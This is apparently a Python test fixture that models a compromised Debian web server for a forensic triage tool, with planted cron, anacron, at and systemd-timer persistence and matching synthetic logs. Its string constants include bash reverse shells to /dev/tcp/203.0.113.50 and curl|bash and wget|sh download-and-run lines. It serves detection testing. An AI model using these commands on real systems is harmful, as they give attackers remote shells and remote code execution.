"""The Linux test host, as data: every file, owner, mode and time, and what triage must find in it.

One source of truth for :mod:`test_images.build_linux` (which writes it as ext4, raw GPT, E01, tar
and a directory) and for the tests (which compare triage's output with ``PLANTED`` and ``LOG_LINKS``).

Host ``web-prod-07``, Debian 12 with some RHEL-style (cronie) content, time zone Europe/Berlin
(UTC+1 in March 2024). Story: on 2024-03-12 around 22:14 UTC an intruder with root added a reverse
shell at @reboot to root's crontab, a curl|bash line in /etc/cron.d, a crontab for www-data, an
anacron job, an hourly cron script, at jobs, a system timer with a malicious service (and a drop-in
that swaps its command) and a user timer for bob. The host rebooted on 2024-03-13 and the logs show
the jobs running.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timezone


def epoch(text: str) -> int:
    """'2024-03-12 22:14:05' (UTC) → seconds since the epoch."""
    return int(datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc).timestamp())


HOSTNAME = "web-prod-07"
TIMEZONE = "Europe/Berlin"
INSTALLED = epoch("2023-06-10 12:00:00")  # stock files
ACQUIRED = epoch("2024-03-14 09:12:44")  # file system creation and every ctime
UIDS = {"root": 0, "daemon": 1, "www-data": 33, "bob": 1000, "alice": 1001}
GIDS = {"root": 0, "daemon": 1, "adm": 4, "www-data": 33, "crontab": 107, "bob": 1000, "alice": 1001}


@dataclass(frozen=True)
class Node:
    """One file system object. ``mode`` is the permission bits only."""

    path: str
    data: bytes = b""
    mode: int = 0o644
    owner: str = "root"
    group: str = "root"
    mtime: int = INSTALLED
    kind: str = "file"  # file, dir, symlink
    target: str = ""


def _f(path, text, mode=0o644, owner="root", group="root", mtime=INSTALLED):
    return Node(path, text.encode(), mode, owner, group, mtime)


def _d(path, mode=0o755, owner="root", group="root", mtime=INSTALLED):
    return Node(path, b"", mode, owner, group, mtime, kind="dir")


def _l(path, target, mtime=INSTALLED):
    return Node(path, b"", 0o777, "root", "root", mtime, kind="symlink", target=target)


REVERSE_SHELL = "/usr/bin/nohup /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' >/dev/null 2>&1"
CURL_BASH = "/bin/bash -c 'curl -fsSL http://203.0.113.50/s.sh | bash'"
WWW_DATA_CMD = "/bin/sh -c 'wget -q -O- http://203.0.113.50/w.sh | sh'"
PHP_STOCK_CMD = "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"
HOURLY_CMD = "cd / && run-parts --report /etc/cron.hourly"
TIMER_CMD = "/bin/bash -c '/var/tmp/.dbus/helper -c 203.0.113.50:443'"
USER_TIMER_CMD = "/home/bob/.cache/.gs/gsync --quiet"
AT_ROOT_CMD = "bash -c 'bash -i >& /dev/tcp/203.0.113.50/5555 0>&1'"
AT_BOB_CMD = "/home/bob/.local/bin/update-check"
AT_ALICE_CMD = "curl -s http://203.0.113.50/a.sh | sh"

ETC_CRONTAB = """\
# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it from the environment
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
"""

E2SCRUB_ALL = """\
30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
"""

PHP_CRON_D = f"""\
# /etc/cron.d/php@PHP_VERSION@: crontab fragment for PHP
#  This purges session files in session.save_path older than X,
#  where X is defined in seconds as the largest value of
#  session.gc_maxlifetime from all your SAPI php.ini files
#  or 24 minutes if not defined.  The script triggers only
#  when session.save_handler=files.
#
#  WARNING: The scripts tries hard to honour all relevant
#  session PHP options, but if you do something unusual
#  you have to disable this script and take care of your
#  sessions yourself.

# Look for and purge old sessions every 30 minutes
09,39 *     * * *     root   {PHP_STOCK_CMD}
"""

PHP_SESSIONCLEAN = f"""\
# Clean PHP sessions every five minutes
SHELL=/bin/bash
*/5 * * * * root {CURL_BASH}
"""

CRONIE_0HOURLY = """\
# Run the hourly jobs
SHELL=/bin/bash
PATH=/sbin:/bin:/usr/sbin:/usr/bin
MAILTO=root
01 * * * * root run-parts /etc/cron.hourly
"""

CRONTAB_HEADER = """\
# DO NOT EDIT THIS FILE - edit the master and reinstall.
# ({tmp} installed on {when})
# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)
"""

ROOT_CRONTAB = CRONTAB_HEADER.format(tmp="/tmp/crontab.Xq3ZtW/crontab", when="Tue Mar 12 23:14:05 2024") + f"""\
# Edit this file to introduce tasks to be run by cron.
#
# m h  dom mon dow   command
0 3 * * * /usr/local/sbin/backup-db.sh > /var/log/backup-db.log 2>&1
@reboot {REVERSE_SHELL}
"""

# The web applications' own cron lines, as their install guides give them (run by the web user).
MAGENTO_CRON = ('/usr/bin/php /var/www/html/magento2/bin/magento cron:run 2>&1 | grep -v "Ran jobs by schedule" '
                ">> /var/www/html/magento2/var/log/magento.cron.log")
MAGENTO_SETUP_CRON = "/usr/bin/php /var/www/html/magento2/bin/magento setup:cron:run >> /var/www/html/magento2/var/log/setup.cron.log"
WORDPRESS_CRON = "wget -q -O - https://shop.example.org/wp-cron.php?doing_wp_cron >/dev/null 2>&1"
NEXTCLOUD_CRON = "php -f /var/www/nextcloud/cron.php"
LARAVEL_CRON = "cd /var/www/portal && php artisan schedule:run >> /dev/null 2>&1"

WWW_DATA_CRONTAB = CRONTAB_HEADER.format(tmp="/tmp/crontab.p2Lw9a/crontab", when="Tue Mar 12 23:31:40 2024") + f"""\
*/10 * * * * {WWW_DATA_CMD}
#~ MAGENTO START c5f9e5ed71cceaabc4d4fd9b3e827a2b
* * * * * {MAGENTO_CRON}
* * * * * {MAGENTO_SETUP_CRON}
#~ MAGENTO END c5f9e5ed71cceaabc4d4fd9b3e827a2b
*/5 * * * * {WORDPRESS_CRON}
*/5 * * * * {NEXTCLOUD_CRON}
* * * * * {LARAVEL_CRON}
"""

# A crontab line that ends in blanks: cron logs the command with them, the parser strips the line.
SYNC_WWW_CMD = "/usr/local/bin/sync-www.sh"
SYNC_WWW = f"""\
# keep the web root in sync with the staging host
*/30 * * * * root {SYNC_WWW_CMD}   \n"""
LOCKED_SYNC_CMD = "flock -e /tmp/alice-sync.lock /home/alice/bin/sync2.sh"

BOB_CRONTAB = CRONTAB_HEADER.format(tmp="/tmp/crontab.B0bk1d/crontab", when="Mon Jan  8 10:02:11 2024") + """\
MAILTO=bob@example.org
30 8 * * 1-5 /home/bob/bin/report.sh % weekly report%from bob
*/15 * * * /home/bob/bin/poll.sh
0 12 * * * /home/bob/bin/long.sh \\
  --verbose
"""

ALICE_CRONTAB = f"""\
*/20 * * * * /home/alice/bin/sync.sh
CRON_TZ=America/New_York
0 9 * * mon /home/alice/bin/weekly.sh
*/5 * * * * {LOCKED_SYNC_CMD}
"""

ANACRONTAB = """\
# /etc/anacrontab: configuration file for anacron

# See anacron(8) and anacrontab(5) for details.

SHELL=/bin/sh
HOME=/root
LOGNAME=root

# These replace cron's entries
1\t5\tcron.daily\trun-parts --report /etc/cron.daily
7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly
@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly
1\t12\tcache-refresh\t/bin/sh /var/tmp/.cache/refresh.sh
"""

LOGROTATE_DAILY = """\
#!/bin/sh

# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi

# this cronjob persists removals (but not purges)
if [ ! -x /usr/sbin/logrotate ]; then
    exit 0
fi

/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
if [ $EXITVALUE != 0 ]; then
    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
fi
exit $EXITVALUE
"""

DPKG_DAILY = """\
#!/bin/sh

# Skip if systemd is running.
if [ -d /run/systemd/system ]; then
\texit 0
fi

/usr/libexec/dpkg/dpkg-db-backup
"""

MAN_DB_DAILY = """\
#!/bin/sh
#
# man-db cron daily

set -e

iosched_idle=
# Don't try to change I/O priority in a vserver or OpenVZ.
if ! grep -Eq '(envID|VxID):.*[1-9]' /proc/self/status && \\
   { [ ! -d /proc/vz ] || [ -d /proc/bc ]; }; then
    iosched_idle='--iosched idle'
fi

if [ -d /run/systemd/system ]; then
    # Skip in favour of systemd timer.
    exit 0
fi

# Expire old catman pages which have not been read in a week.
if [ ! -d /var/cache/man ]; then
    exit 0
fi

# regenerate man database
exec start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb \\
    --oknodo --chuid man $iosched_idle -- --quiet
"""

CRONIE_0ANACRON = """\
#!/bin/sh
# Check whether 0anacron was run today already
if test -r /var/spool/anacron/cron.daily; then
    day=`cat /var/spool/anacron/cron.daily`
fi
if [ `date +%Y%m%d` = "$day" ]; then
    exit 0
fi

# Do not run jobs when on battery power
online=1
for psupply in AC ADP0 ; do
    sysfile="/sys/class/power_supply/$psupply/online"

    if test -f $sysfile; then
        if [ `cat $sysfile 2>/dev/null`x = 1x ]; then
            online=1
            break
        else
            online=0
        fi
    fi
done
if [ $online = 0 ]; then
    exit 0
fi
/usr/sbin/anacron -s
"""

PLACEHOLDER = "# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg from removing this directory\n"

SYS_HEALTH = "#!/bin/sh\n/bin/bash -c 'curl -fsSL http://203.0.113.50/h.sh | bash' >/dev/null 2>&1\n"


def at_script(uid: int, gid: int, user: str, home: str, command: str, delimiter: str) -> str:
    """An at job file as GNU at 3.2 writes it (header, saved environment, cd, here-document)."""
    return f"""\
#!/bin/sh
# atrun uid={uid} gid={gid}
# mail {user} 0
umask 22
SHELL=/bin/bash; export SHELL
PWD={home}; export PWD
LOGNAME={user}; export LOGNAME
HOME={home}; export HOME
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd {home} || {{
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}}
${{SHELL:-/bin/sh}} << 'marcinDELIMITER{delimiter}'
{command}

marcinDELIMITER{delimiter}
"""


LOGROTATE_TIMER = """\
[Unit]
Description=Daily rotation of log files
Documentation=man:logrotate(8) man:logrotate.conf(5)

[Timer]
OnCalendar=daily
AccuracySec=1h
Persistent=true

[Install]
WantedBy=timers.target
"""

LOGROTATE_SERVICE = """\
[Unit]
Description=Rotate log files
Documentation=man:logrotate(8) man:logrotate.conf(5)
RequiresMountsFor=/var/log
ConditionACPower=true

[Service]
Type=oneshot
ExecStart=/usr/sbin/logrotate /etc/logrotate.conf
Nice=19
IOSchedulingClass=best-effort
IOSchedulingPriority=7
"""

APT_DAILY_TIMER = """\
[Unit]
Description=Daily apt download activities

[Timer]
OnCalendar=*-*-* 6,18:00
RandomizedDelaySec=12h
Persistent=true

[Install]
WantedBy=timers.target
"""

APT_DAILY_SERVICE = """\
[Unit]
Description=Daily apt download activities
Documentation=man:apt(8)
ConditionACPower=true
After=network.target network-online.target systemd-networkd.service NetworkManager.service connman.service

[Service]
Type=oneshot
ExecStartPre=-/usr/lib/apt/apt-helper wait-online
ExecStart=/usr/lib/apt/apt.systemd.daily update
"""

DBUS_HELPER_TIMER = """\
[Unit]
Description=D-Bus Session Helper timer

[Timer]
OnBootSec=2min
OnCalendar=*:0/15
Persistent=true
Unit=dbus-helper.service

[Install]
WantedBy=timers.target
"""

DBUS_HELPER_SERVICE = """\
[Unit]
Description=D-Bus Session Helper

[Service]
Type=simple
User=root
ExecStart=/usr/bin/dbus-daemon --session --nofork
"""

DBUS_HELPER_OVERRIDE = f"""\
[Service]
ExecStart=
ExecStart={TIMER_CMD}
"""

BROKEN_TIMER = """\
[Unit]
Description=Leftover timer

[Timer]
OnCalendar=Mon..Fri *-*-* 04:00 Europe/Paris
this line is not an assignment
"""

GNOME_SYNC_TIMER = """\
[Unit]
Description=GNOME Sync Helper timer

[Timer]
OnStartupSec=1min
OnCalendar=hourly
Persistent=true

[Install]
WantedBy=timers.target
"""

GNOME_SYNC_SERVICE = f"""\
[Unit]
Description=GNOME Sync Helper

[Service]
Type=oneshot
ExecStart={USER_TIMER_CMD}
"""

# --- logs (local time, Europe/Berlin = UTC+1 in March) -------------------------------------------

SYSLOG = f"""\
Mar 12 23:13:40 web-prod-07 crontab[4411]: (root) BEGIN EDIT (root)
Mar 12 23:14:05 web-prod-07 crontab[4411]: (root) REPLACE (root)
Mar 12 23:14:05 web-prod-07 crontab[4411]: (root) END EDIT (root)
Mar 12 23:15:01 web-prod-07 cron[598]: (root) RELOAD (crontabs/root)
Mar 12 23:31:40 web-prod-07 crontab[4420]: (root) REPLACE (www-data)
Mar 12 23:32:01 web-prod-07 cron[598]: (www-data) RELOAD (crontabs/www-data)
Mar 13 06:00:02 web-prod-07 systemd[1]: Starting cron.service - Regular background program processing daemon...
Mar 13 06:00:02 web-prod-07 cron[598]: (CRON) INFO (pidfile fd = 3)
Mar 13 06:00:02 web-prod-07 cron[598]: (CRON) INFO (Running @reboot jobs)
Mar 13 06:00:02 web-prod-07 CRON[640]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
Mar 13 06:00:02 web-prod-07 CRON[640]: (root) CMD ({REVERSE_SHELL})
Mar 13 06:02:00 web-prod-07 systemd[1]: Started dbus-helper.service - D-Bus Session Helper.
Mar 13 06:05:01 web-prod-07 CRON[700]: (root) CMD ({CURL_BASH})
Mar 13 06:05:01 web-prod-07 kernel: [  300.118823] TCP: request_sock_TCP: Possible SYN flooding on port 443.
Mar 13 06:09:01 web-prod-07 CRON[702]: (root) CMD ({PHP_STOCK_CMD})
Mar 13 06:10:01 web-prod-07 CRON[705]: (www-data) CMD ({WWW_DATA_CMD})
Mar 13 06:12:00 web-prod-07 anacron[720]: Job `cache-refresh' started
Mar 13 06:12:01 web-prod-07 anacron[720]: Job `cache-refresh' terminated
Mar 13 06:15:00 web-prod-07 systemd[1]: Started dbus-helper.service - D-Bus Session Helper.
Mar 13 06:17:01 web-prod-07 CRON[710]: (root) CMD ({HOURLY_CMD})
Mar 13 06:20:00 web-prod-07 atd[730]: Starting job 3 (a0000301b2f40c) for user 'root' (0)
Mar 13 06:20:01 web-prod-07 CRON[740]: (root) CMD (/tmp/.x/kworker -s)
Mar 13 07:00:00 web-prod-07 systemd[1432]: Started gnome-sync.service - GNOME Sync Helper.
Mar 13 08:30:01 web-prod-07 CRON[790]: (bob) CMD (/home/bob/bin/report.sh )
Mar 13 08:30:01 web-prod-07 CRON[791]: (root) CMD ({SYNC_WWW_CMD}   )
Mar 13 08:31:01 web-prod-07 CRON[795]: (www-data) CMD ({MAGENTO_CRON})
Mar 13 08:44:01 web-prod-07 CRON[801]: (root) CMD ({SYNC_WWW_CMD}   )
Mar 13 09:00:01 web-prod-07 CRON[820]: (root) CMD ({SYNC_WWW_CMD}   )
"""
SYSLOG_MTIME = epoch("2024-03-14 09:10:00")

# rotated file spanning New Year: the year comes from the file's mtime (January 2024)
SYSLOG_1 = f"""\
Dec 31 23:39:01 web-prod-07 CRON[5101]: (root) CMD ({PHP_STOCK_CMD})
Jan  1 00:09:01 web-prod-07 CRON[5120]: (root) CMD ({PHP_STOCK_CMD})
"""
SYSLOG_1_MTIME = epoch("2024-01-07 00:00:05")


CRON_LOG_RHEL = """\
Mar 13 06:40:11 web-prod-07 crontab[880]: (alice) REPLACE (alice)
Mar 13 06:41:01 web-prod-07 crond[598]: (alice) RELOAD (/var/spool/cron/alice)
Mar 13 07:01:01 web-prod-07 CROND[900]: (root) CMD (run-parts /etc/cron.hourly)
Mar 13 07:01:01 web-prod-07 run-parts(/etc/cron.hourly)[905]: starting 0anacron
Mar 13 07:01:01 web-prod-07 run-parts(/etc/cron.hourly)[911]: finished 0anacron
Mar 13 07:01:01 web-prod-07 run-parts(/etc/cron.hourly)[912]: starting sys-health
Mar 13 07:20:01 web-prod-07 CROND[910]: (alice) CMD (/home/alice/bin/sync.sh)
"""
CRON_LOG_MTIME = epoch("2024-03-14 09:10:00")

ATTACK = epoch("2024-03-12 22:14:05")


def nodes() -> list[Node]:
    """Every object in the file system, parents before children."""
    items = [
        # top-level non-directories: not drives, not file systems (a dangling kernel link, a README)
        _f("/README.txt", "Collected from web-prod-07 by the on-call engineer.\n"),
        _l("/vmlinuz", "boot/vmlinuz-6.1.0-18-amd64"),
        _f("/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
           'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\n'),
        _f("/etc/debian_version", "12.5\n"),
        _f("/etc/hostname", HOSTNAME + "\n"),
        _f("/etc/hosts", f"127.0.0.1\tlocalhost\n127.0.1.1\t{HOSTNAME}.corp.example {HOSTNAME}\n"),
        _f("/etc/timezone", TIMEZONE + "\n"),
        _l("/etc/localtime", "/usr/share/zoneinfo/" + TIMEZONE),
        _f("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
           "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nbob:x:1000:1000:Bob,,,:/home/bob:/bin/bash\n"
           "alice:x:1001:1001:Alice,,,:/home/alice:/bin/bash\n"),
        _f("/etc/group", "".join(f"{g}:x:{i}:\n" for g, i in GIDS.items())),
        _d("/etc/dpkg"),
        _d("/run"),
        _d("/opt"),
        _f("/etc/crontab", ETC_CRONTAB),
        _d("/etc/cron.d"),
        _f("/etc/cron.d/e2scrub_all", E2SCRUB_ALL),
        _f("/etc/cron.d/php", PHP_CRON_D),
        _f("/etc/cron.d/0hourly", CRONIE_0HOURLY),
        _f("/etc/cron.d/.placeholder", PLACEHOLDER),
        _f("/etc/cron.d/php-sessionclean", PHP_SESSIONCLEAN, mtime=epoch("2024-03-12 22:20:11")),
        _f("/etc/cron.d/sync-www", SYNC_WWW, mtime=epoch("2023-09-01 08:00:00")),
        _f("/etc/cron.deny", "nobody\n"),
        _d("/etc/cron.hourly"),
        _f("/etc/cron.hourly/.placeholder", PLACEHOLDER),
        _f("/etc/cron.hourly/0anacron", CRONIE_0ANACRON, 0o755),
        _f("/etc/cron.hourly/sys-health", SYS_HEALTH, 0o755, mtime=epoch("2024-03-12 22:25:00")),
        _d("/etc/cron.daily"),
        _f("/etc/cron.daily/.placeholder", PLACEHOLDER),
        _f("/etc/cron.daily/logrotate", LOGROTATE_DAILY, 0o755),
        _f("/etc/cron.daily/dpkg", DPKG_DAILY, 0o755),
        _f("/etc/cron.daily/man-db", MAN_DB_DAILY, 0o755),
        _f("/etc/cron.daily/backup.sh", "#!/bin/sh\ntar czf /var/backups/www.tgz /var/www\n", 0o755),
        _d("/etc/cron.weekly"),
        _f("/etc/cron.weekly/cleanup", "#!/bin/sh\nfind /tmp -mtime +7 -delete\n", 0o644),
        _d("/etc/cron.monthly"),
        _f("/etc/cron.monthly/.placeholder", PLACEHOLDER),
        _f("/etc/anacrontab", ANACRONTAB, mtime=epoch("2024-03-12 22:55:00")),
        _d("/var/spool/anacron", 0o755),
        _f("/var/spool/anacron/cron.daily", "20240313\n", 0o600, mtime=epoch("2024-03-13 05:10:02")),
        _f("/var/spool/anacron/cron.weekly", "20240311\n", 0o600, mtime=epoch("2024-03-11 06:15:01")),
        _f("/var/spool/anacron/cron.monthly", "20240301\n", 0o600, mtime=epoch("2024-03-01 06:20:01")),
        _f("/var/spool/anacron/cache-refresh", "20240313\n", 0o600, mtime=epoch("2024-03-13 05:12:00")),
        _d("/var/spool/cron"),
        _d("/var/spool/cron/crontabs", 0o1730, "root", "crontab"),
        _f("/var/spool/cron/crontabs/root", ROOT_CRONTAB, 0o600, "root", "crontab", ATTACK),
        _f("/var/spool/cron/crontabs/www-data", WWW_DATA_CRONTAB, 0o600, "www-data", "crontab", epoch("2024-03-12 22:31:40")),
        _f("/var/spool/cron/crontabs/bob", BOB_CRONTAB, 0o600, "bob", "crontab", epoch("2024-01-08 09:02:11")),
        _f("/var/spool/cron/alice", ALICE_CRONTAB, 0o600, "alice", "alice", epoch("2024-03-13 05:40:11")),
        _d("/var/spool/cron/atjobs", 0o1770, "daemon", "daemon"),
        _f("/var/spool/cron/atjobs/.SEQ", "2\n", 0o600, "daemon", "daemon", epoch("2024-03-12 22:50:00")),
        _f("/var/spool/cron/atjobs/a0000101b2feb6", at_script(0, 0, "root", "/root", AT_ROOT_CMD, "0e4bb3e8"), 0o700, "root", "daemon", epoch("2024-03-12 22:50:00")),
        _f("/var/spool/cron/atjobs/a0000201b30474", at_script(1000, 1000, "bob", "/home/bob", AT_BOB_CMD, "54a1c2d0"), 0o600, "bob", "daemon", epoch("2024-03-12 22:51:30")),
        _d("/var/spool/cron/atspool", 0o1770, "daemon", "daemon"),
        _d("/var/spool/at", 0o700, "daemon", "daemon"),
        _f("/var/spool/at/.SEQ", "4\n", 0o600, "daemon", "daemon", epoch("2024-03-12 22:52:00")),
        _f("/var/spool/at/a0000401b2ff10", at_script(1001, 1001, "alice", "/home/alice", AT_ALICE_CMD, "7c1e90ab"), 0o700, "alice", "alice", epoch("2024-03-12 22:52:00")),
        _d("/var/spool/at/spool", 0o700, "daemon", "daemon"),
        _d("/lib/systemd/system"),
        _f("/lib/systemd/system/logrotate.timer", LOGROTATE_TIMER),
        _f("/lib/systemd/system/logrotate.service", LOGROTATE_SERVICE),
        _f("/lib/systemd/system/apt-daily.timer", APT_DAILY_TIMER),
        _f("/lib/systemd/system/apt-daily.service", APT_DAILY_SERVICE),
        _d("/etc/systemd/system"),
        _d("/etc/systemd/system/timers.target.wants"),
        _l("/etc/systemd/system/timers.target.wants/logrotate.timer", "/lib/systemd/system/logrotate.timer"),
        _l("/etc/systemd/system/timers.target.wants/apt-daily.timer", "/lib/systemd/system/apt-daily.timer"),
        _f("/etc/systemd/system/dbus-helper.timer", DBUS_HELPER_TIMER, mtime=epoch("2024-03-12 22:40:00")),
        _f("/etc/systemd/system/dbus-helper.service", DBUS_HELPER_SERVICE, mtime=epoch("2024-03-12 22:40:00")),
        _d("/etc/systemd/system/dbus-helper.service.d"),
        _f("/etc/systemd/system/dbus-helper.service.d/override.conf", DBUS_HELPER_OVERRIDE, mtime=epoch("2024-03-12 22:41:00")),
        _l("/etc/systemd/system/timers.target.wants/dbus-helper.timer", "/etc/systemd/system/dbus-helper.timer", epoch("2024-03-12 22:40:05")),
        # enabled, but its unit file was deleted: the link dangles
        _l("/etc/systemd/system/timers.target.wants/sysupdate-cache.timer", "/etc/systemd/system/sysupdate-cache.timer", epoch("2024-03-12 22:42:00")),
        _f("/etc/systemd/system/broken.timer", BROKEN_TIMER, mtime=epoch("2023-11-02 10:00:00")),
        _d("/etc/systemd/user"),
        _d("/var/lib/systemd/timers"),
        _f("/var/lib/systemd/timers/stamp-logrotate.timer", "", mtime=epoch("2024-03-13 23:00:00")),
        _f("/var/lib/systemd/timers/stamp-apt-daily.timer", "", mtime=epoch("2024-03-14 05:41:12")),
        _f("/var/lib/systemd/timers/stamp-dbus-helper.timer", "", mtime=epoch("2024-03-14 09:00:00")),
        _d("/root", 0o700),
        _d("/home"),
        _d("/home/bob", 0o750, "bob", "bob"),
        _d("/home/bob/.config", 0o755, "bob", "bob"),
        _d("/home/bob/.config/systemd", 0o755, "bob", "bob"),
        _d("/home/bob/.config/systemd/user", 0o755, "bob", "bob"),
        _f("/home/bob/.config/systemd/user/gnome-sync.timer", GNOME_SYNC_TIMER, 0o644, "bob", "bob", epoch("2024-03-12 22:45:00")),
        _f("/home/bob/.config/systemd/user/gnome-sync.service", GNOME_SYNC_SERVICE, 0o644, "bob", "bob", epoch("2024-03-12 22:45:00")),
        _d("/home/bob/.config/systemd/user/timers.target.wants", 0o755, "bob", "bob"),
        _l("/home/bob/.config/systemd/user/timers.target.wants/gnome-sync.timer", "/home/bob/.config/systemd/user/gnome-sync.timer", epoch("2024-03-12 22:45:10")),
        _d("/home/bob/.local", 0o755, "bob", "bob"),
        _d("/home/bob/.local/share", 0o755, "bob", "bob"),
        _d("/home/bob/.local/share/systemd", 0o755, "bob", "bob"),
        _d("/home/bob/.local/share/systemd/timers", 0o755, "bob", "bob"),
        _f("/home/bob/.local/share/systemd/timers/stamp-gnome-sync.timer", "", 0o644, "bob", "bob", epoch("2024-03-13 06:00:00")),
        _d("/home/alice", 0o750, "alice", "alice"),
        _d("/var/log", 0o755, "root", "root"),
        _f("/var/log/syslog", SYSLOG, 0o640, "root", "adm", SYSLOG_MTIME),
        _f("/var/log/syslog.1", SYSLOG_1, 0o640, "root", "adm", SYSLOG_1_MTIME),
        _f("/var/log/cron", CRON_LOG_RHEL, 0o600, "root", "root", CRON_LOG_MTIME),
    ]
    return _with_parents(items)


def _with_parents(items: list[Node]) -> list[Node]:
    """Add missing parent directories (root-owned 0755) and sort parents first."""
    by_path = {n.path: n for n in items}
    for node in list(items):
        parts = node.path.strip("/").split("/")[:-1]
        for i in range(1, len(parts) + 1):
            parent = "/" + "/".join(parts[:i])
            by_path.setdefault(parent, _d(parent))
    return [by_path[p] for p in sorted(by_path)]


# --- what triage must find -------------------------------------------------------------------

@dataclass(frozen=True)
class Planted:
    kind: str
    entry: str
    user: str | None
    schedule: str
    command: str
    enabled: bool = True


PLANTED = [
    Planted("cron", "/var/spool/cron/crontabs/root:8", "root", "@reboot", REVERSE_SHELL),
    Planted("cron", "/etc/cron.d/php-sessionclean:3", "root", "*/5 * * * *", CURL_BASH),
    Planted("cron", "/var/spool/cron/crontabs/www-data:4", "www-data", "*/10 * * * *", WWW_DATA_CMD),
    Planted("cron", "/var/spool/cron/alice:1", "alice", "*/20 * * * *", "/home/alice/bin/sync.sh"),
    Planted("cron", "/etc/crontab:19", "root", "17 * * * *", HOURLY_CMD),
    Planted("anacron", "/etc/anacrontab:13", "root", "1 delay=12min", "/bin/sh /var/tmp/.cache/refresh.sh"),
    Planted("cron_script", "/etc/cron.hourly/sys-health", "root", "hourly", "/etc/cron.hourly/sys-health"),
    Planted("at", "/var/spool/cron/atjobs/a0000101b2feb6", "root", "at 2024-03-15T02:30:00Z queue a", AT_ROOT_CMD),
    Planted("at", "/var/spool/cron/atjobs/a0000201b30474", "bob", "at 2024-03-16T03:00:00Z queue a", AT_BOB_CMD, enabled=False),
    Planted("at", "/var/spool/at/a0000401b2ff10", "alice", "at 2024-03-15T04:00:00Z queue a", AT_ALICE_CMD),
    Planted("systemd_timer", "/etc/systemd/system/dbus-helper.timer", "root", "OnCalendar=*:0/15; OnBootSec=2min", TIMER_CMD),
    Planted("systemd_timer", "/home/bob/.config/systemd/user/gnome-sync.timer", "bob", "OnCalendar=hourly; OnStartupSec=1min", USER_TIMER_CMD),
]

# (log file, line number) → (action, linked entry or None for a run whose entry no longer exists)
LOG_LINKS = {
    ("/var/log/syslog", 9): ("cron_reboot_jobs", None),
    ("/var/log/syslog", 11): ("cron_run", "/var/spool/cron/crontabs/root:8"),
    ("/var/log/syslog", 12): ("timer_service_start", "/etc/systemd/system/dbus-helper.timer"),
    ("/var/log/syslog", 13): ("cron_run", "/etc/cron.d/php-sessionclean:3"),
    ("/var/log/syslog", 15): ("cron_run", "/etc/cron.d/php:14"),
    ("/var/log/syslog", 16): ("cron_run", "/var/spool/cron/crontabs/www-data:4"),
    ("/var/log/syslog", 17): ("anacron_run", "/etc/anacrontab:13"),
    ("/var/log/syslog", 18): ("anacron_finished", "/etc/anacrontab:13"),
    ("/var/log/syslog", 19): ("timer_service_start", "/etc/systemd/system/dbus-helper.timer"),
    ("/var/log/syslog", 20): ("cron_run", "/etc/crontab:19"),
    ("/var/log/syslog", 21): ("at_run", None),
    ("/var/log/syslog", 22): ("cron_run", "cron log: (root) CMD (/tmp/.x/kworker -s)"),
    ("/var/log/syslog", 23): ("timer_service_start", "/home/bob/.config/systemd/user/gnome-sync.timer"),
    ("/var/log/syslog", 24): ("cron_run", "/var/spool/cron/crontabs/bob:5"),
    ("/var/log/syslog", 25): ("cron_run", "/etc/cron.d/sync-www:2"),
    ("/var/log/syslog", 26): ("cron_run", "/var/spool/cron/crontabs/www-data:6"),
    # 08:44 is not a */30 minute: not the entry's run, although user and command are the same
    ("/var/log/syslog", 27): ("cron_run", f"cron log: (root) CMD ({SYNC_WWW_CMD})"),
    ("/var/log/syslog", 28): ("cron_run", "/etc/cron.d/sync-www:2"),
    ("/var/log/syslog.1", 1): ("cron_run", "/etc/cron.d/php:14"),
    ("/var/log/syslog.1", 2): ("cron_run", "/etc/cron.d/php:14"),
    ("/var/log/syslog", 1): ("crontab_edit_begin", "/var/spool/cron/crontabs/root"),
    ("/var/log/syslog", 2): ("crontab_replace", "/var/spool/cron/crontabs/root"),
